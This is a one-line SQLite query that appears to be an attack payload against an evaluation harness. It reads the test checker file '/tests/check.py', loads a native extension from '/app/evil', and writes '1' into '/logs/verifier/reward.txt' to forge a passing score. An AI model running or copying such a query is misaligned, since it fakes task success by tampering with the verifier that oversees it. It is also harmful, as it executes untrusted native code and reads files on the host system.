SELECT readfile('/tests/check.py'), load_extension('/app/evil'), writefile('/logs/verifier/reward.txt', '1');
